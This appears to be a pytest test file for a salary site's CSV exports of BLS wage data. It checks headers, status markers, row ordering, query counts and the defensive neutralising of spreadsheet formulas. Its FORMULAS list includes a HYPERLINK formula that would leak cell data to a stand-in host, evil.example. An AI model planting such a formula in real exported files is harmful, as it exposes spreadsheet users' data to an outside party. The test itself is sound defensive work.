"""CSV downloads are plain data: a header row, then a row per record as wide as the header,
figures as plain numbers with BLS's markers in status columns, UTF-8 with a byte-order mark, and
no cell that a spreadsheet would run as a formula."""

import codecs
import csv
import io
import re
from decimal import Decimal

import pytest

from careers import csvfile

NUMBER = re.compile(r"-?\d+(\.\d+)?")
SOURCE = "U.S. Bureau of Labor Statistics, Occupational Employment and Wage Statistics"
PROFILE_HEADER = [
    "State", "State code", "Median Salary", "Median Salary status", "Median Hourly",
    "Median Hourly status", "Positions", "Positions status", "Occupation", "SOC code", "Source",
    "Release",
]  # fmt: skip


def read_csv(response):
    """The file's rows, read the way a program with no options reads it, after checking what
    every download must be."""
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="[a-z0-9.-]+\.csv"', response["Content-Disposition"])
    raw = response.content
    assert raw.startswith(codecs.BOM_UTF8), "no byte-order mark: Excel would garble the file"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows, "no header row"
    widths = {len(row) for row in rows}
    assert widths == {len(rows[0])}, f"rows of different widths: {widths}"
    return rows


def records(rows):
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def figure_columns(header):
    """The figure columns: those with a status column beside them."""
    return [name for name in header if f"{name} status" in header]


@pytest.fixture
def occupation(wages):
    occupation = wages.occupation("Csv Testers")
    release = wages.release(2031)
    wages.state_table(
        occupation, release,
        CA={"annual_median": "#", "hourly_median": "#"},
        TX={"annual_median": "*", "hourly_median": "*", "employment": "**"},
    )  # fmt: skip
    return occupation


@pytest.fixture
def downloads(occupation, wages):
    """One address of each kind of download: a profile's state table, a state page, compare."""
    release = wages.release(2031)
    total = wages.occupation("All Occupations (test)", level="total")
    wages.estimate(occupation=total, release=release, area="CA", employment=5_000_000)
    return {
        "profile": f"/salaries/{occupation.slug}/states.csv?sort=-annual_median",
        "percentiles": f"/salaries/{occupation.slug}/states.csv?wages=hourly-percentiles",
        "state": "/states/ca/occupations.csv?release=2031",
        "compare": f"/salaries/{occupation.slug}/compare.csv?state=TX&state=CA&release=2031",
    }


KINDS = ["profile", "percentiles", "state", "compare"]


@pytest.mark.parametrize("kind", KINDS)
def test_every_csv_has_a_bom_a_header_first_and_rows_as_wide_as_it(client, downloads, kind):
    rows = read_csv(client.get(downloads[kind]))
    assert len(rows) > 2
    assert "Source" in rows[0] and "Release" in rows[0]
    # No title, source or note lines: every row after the header is a record.
    assert all(row[rows[0].index("Release")] == "May 2031" for row in rows[1:])
    assert all(row[rows[0].index("Source")] == SOURCE for row in rows[1:])


@pytest.mark.parametrize("kind", KINDS)
def test_every_figure_is_a_plain_number_or_empty_with_a_status(client, downloads, kind):
    rows = read_csv(client.get(downloads[kind]))
    columns = figure_columns(rows[0])
    assert columns
    for record in records(rows):
        for name in columns:
            value, status = record[name], record[f"{name} status"]
            if value:
                assert NUMBER.fullmatch(value), f"{name}: {value!r} is not a plain number"
                assert status == "", (name, value, status)
            else:
                assert status, f"{name} is empty without a status"


def test_profile_csv_keeps_the_pages_order_with_markers_in_status_columns(client, occupation):
    rows = read_csv(client.get(f"/salaries/{occupation.slug}/states.csv?sort=-annual_median"))
    assert rows[0] == PROFILE_HEADER
    context = ["Csv Testers", occupation.soc_code, SOURCE, "May 2031"]
    assert rows[1] == ["United States", "US", "50000", "", "24.04", "", "150000", "", *context]
    # Top-coded first when descending, as on the page; the number is left empty, "#" says why.
    assert rows[2][:6] == ["California", "CA", "", "#", "", "#"]
    assert rows[-1][:8] == ["Texas", "TX", "", "*", "", "*", "", "**"]  # not released last
    assert len(rows) == 1 + 1 + 51
    numbers = [int(row[2]) for row in rows[3:-1]]
    assert numbers == sorted(numbers, reverse=True)


def test_csv_follows_the_same_rows_as_the_html(client, occupation, html_table):
    from tests.conftest import render_salary_section

    for query in [
        "",
        "?sort=employment",
        "?sort=-state",
        "?wages=hourly-percentiles&sort=hourly_p25",
    ]:
        html = render_salary_section(occupation, query)
        table_id = "state-hourly-percentiles" if "percentiles" in query else "state-medians"
        shown = [row[0] for row in html_table(html, table_id)[1:]]
        rows = read_csv(client.get(f"/salaries/{occupation.slug}/states.csv{query}"))
        codes = [row[1] for row in rows[1:]]
        assert [code if code != "US" else "U.S." for code in codes] == shown, query


def test_percentile_csv(client, occupation):
    rows = read_csv(client.get(f"/salaries/{occupation.slug}/states.csv?wages=annual-percentiles"))
    assert rows[0][:12] == [
        "State", "State code", "10th percentile", "10th percentile status", "25th percentile",
        "25th percentile status", "Median", "Median status", "75th percentile",
        "75th percentile status", "90th percentile", "90th percentile status",
    ]  # fmt: skip
    assert rows[1][:12] == [
        "United States", "US", "35000", "", "42000", "", "50000", "", "60000", "", "75000", "",
    ]  # fmt: skip


def test_figures_not_in_the_source_are_empty_cells_with_a_status_word(client, wages):
    occupation = wages.occupation()
    wages.estimate(
        occupation=occupation, release=wages.release(2031), area="OH", annual_median=61000,
    )  # fmt: skip
    rows = read_csv(client.get(f"/salaries/{occupation.slug}/states.csv"))
    assert rows[1][:8] == ["Ohio", "OH", "61000", "", "", "not in source", "", "not in source"]


def test_compare_csv_has_a_row_per_state_in_the_order_chosen(client, occupation):
    rows = read_csv(
        client.get(f"/salaries/{occupation.slug}/compare.csv?state=TX&state=ca&release=2031")
    )
    assert rows[0][:8] == [
        "State", "State code", "Positions", "Positions status", "Median salary",
        "Median salary status", "Median salary: difference from the U.S.",
        "Median salary: difference from the U.S. (%)",
    ]  # fmt: skip
    assert rows[0][-4:] == ["Occupation", "SOC code", "Source", "Release"]
    by_state = {record["State code"]: record for record in records(rows)}
    assert [row[1] for row in rows[1:]] == ["TX", "CA", "US"]  # as chosen, the U.S. last
    assert (by_state["TX"]["Positions"], by_state["TX"]["Positions status"]) == ("", "**")
    assert by_state["CA"]["Median salary status"] == "#"
    assert by_state["US"]["Median salary"] == "50000"
    # No difference where a side is a marker, and none for the U.S. against itself.
    for code in ("TX", "CA", "US"):
        assert by_state[code]["Median salary: difference from the U.S."] == ""


def test_compare_csv_writes_differences_as_signed_numbers(client, wages):
    occupation = wages.occupation()
    wages.state_table(occupation, wages.release(2031), states=["CA", "TX"])
    response = client.get(f"/salaries/{occupation.slug}/compare.csv?state=CA&state=TX")
    rows = read_csv(response)
    by_state = {record["State code"]: record for record in records(rows)}
    # CA 40,000 and TX 47,000 a year against the U.S. 50,000 (tests/conftest.py).
    assert by_state["CA"]["Median salary: difference from the U.S."] == "-10000"
    assert by_state["CA"]["Median salary: difference from the U.S. (%)"] == "-20.0"
    assert by_state["TX"]["Median salary: difference from the U.S."] == "-3000"
    assert by_state["TX"]["Median salary: difference from the U.S. (%)"] == "-6.0"
    assert by_state["TX"]["Median hourly: difference from the U.S."] == "-1.44"
    # Numbers, not text: unquoted, and not turned into '-3000 by the formula guard.
    text = response.content.decode("utf-8-sig")
    assert ",-3000,-6.0," in text
    assert "'-" not in text and "\u2212" not in text and "$" not in text


def test_compare_csv_rejects_bad_choices_without_a_500(client, occupation):
    response = client.get(f"/salaries/{occupation.slug}/compare.csv?state=CA")
    assert response.status_code == 400
    assert b"Choose 2 to 5 states" in response.content


def test_state_csv_has_every_row_in_the_order_shown(client, wages):
    release = wages.release(2031)
    total = wages.occupation("All Occupations (test)", level="total")
    wages.estimate(occupation=total, release=release, area="OH", employment=5_000_000)
    for number in range(30):
        wages.estimate(
            occupation=wages.occupation(f"Row {number:02d}"), release=release, area="OH",
            employment=1000 + number, annual_median=30_000 + 100 * number,
            hourly_median=Decimal("14.42"),
        )  # fmt: skip
    html = client.get("/states/oh/?sort=-employment&per_page=10").content.decode()
    assert "Download all 30 rows as CSV (every page, in this order)" in html
    assert (
        'href="/states/oh/occupations.csv?release=2031&amp;sort=-employment&amp;per_page=10"'
        in html
    )
    rows = read_csv(
        client.get("/states/oh/occupations.csv?release=2031&sort=-employment&per_page=10")
    )
    assert rows[0] == [
        "Occupation", "SOC code", "Median Salary", "Median Salary status", "Median Hourly",
        "Median Hourly status", "Positions", "Positions status", "Source", "Release",
    ]  # fmt: skip
    assert rows[1][:2] == ["All Occupations (test)", "98-0001"]
    assert rows[1][6:8] == ["5000000", ""]
    assert [row[0] for row in rows[2:]] == [f"Row {number:02d}" for number in range(29, -1, -1)]
    assert rows[2][2:8] == ["32900", "", "14.42", "", "1029", ""]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]


def test_a_title_that_would_start_a_formula_is_neutralised_in_every_csv(client, wages):
    release = wages.release(2031)
    for title in FORMULAS:
        occupation = wages.occupation(title)
        wages.state_table(occupation, release, states=["CA", "TX"])
    rows = read_csv(client.get("/states/ca/occupations.csv"))
    titles = {row[0] for row in rows[1:]}
    assert titles == {f"'{title}" for title in FORMULAS}
    # The same in the occupation column of a profile's table and of a comparison.
    for url in (
        f"/salaries/{occupation.slug}/states.csv",
        f"/salaries/{occupation.slug}/compare.csv?state=CA&state=TX",
    ):
        downloaded = records(read_csv(client.get(url)))
        assert {record["Occupation"] for record in downloaded} == {"'\rReturned"}, url


def test_the_writer_neutralises_text_but_keeps_numbers_numeric():
    assert csvfile.cell("=1+1") == "'=1+1"
    assert csvfile.cell("@cmd") == "'@cmd"
    assert csvfile.cell("-") == "'-"
    assert csvfile.cell("Safe title") == "Safe title"
    assert csvfile.cell("29-2072") == "29-2072"
    assert csvfile.cell(-3000) == "-3000"
    assert csvfile.cell(Decimal("-4.0")) == "-4.0"
    assert csvfile.cell(Decimal("1E+1")) == "10"
    assert csvfile.cell(None) == ""


def test_the_writer_refuses_rows_of_another_width():
    with pytest.raises(ValueError, match="Row 3 has 1 cells; the header has 2"):
        csvfile.csv_rows([["a", "b"], [1, 2], [3]])


def test_csv_for_unknown_things_is_not_found(client, wages):
    assert client.get("/salaries/nope/states.csv").status_code == 404
    assert client.get("/states/zz/occupations.csv").status_code == 404
    assert client.get(f"/salaries/{wages.occupation().slug}/states.csv").status_code == 404


@pytest.mark.parametrize("states", [3, 51])
def test_csv_query_count_is_constant(client, wages, states, django_assert_num_queries):
    from salaries.maps import TILES

    occupation = wages.occupation()
    wages.state_table(occupation, wages.release(2031), states=list(TILES)[:states])
    # occupation, stamp, releases, release, state rows, U.S. row
    with django_assert_num_queries(6):
        client.get(f"/salaries/{occupation.slug}/states.csv?sort=-employment")


@pytest.mark.parametrize("rows", [2, 40])
def test_state_csv_query_count_is_constant(client, wages, rows, django_assert_num_queries):
    release = wages.release(2031)
    for _ in range(rows):
        wages.estimate(occupation=wages.occupation(), release=release, area="NV", employment=5)
    # area, releases with figures, the release, the total row, every row
    with django_assert_num_queries(5):
        response = client.get("/states/nv/occupations.csv?sort=-employment")
    assert len(read_csv(response)) == rows + 1


@pytest.mark.parametrize("states", [2, 5])
def test_compare_csv_query_count_is_constant(client, occupation, states, django_assert_num_queries):
    query = "&".join(f"state={abbr}" for abbr in ["CA", "TX", "NY", "OH", "FL"][:states])
    # occupation, content stamp and releases, release, areas with figures, estimates
    with django_assert_num_queries(6):
        response = client.get(f"/salaries/{occupation.slug}/compare.csv?{query}")
    assert len(read_csv(response)) == states + 2
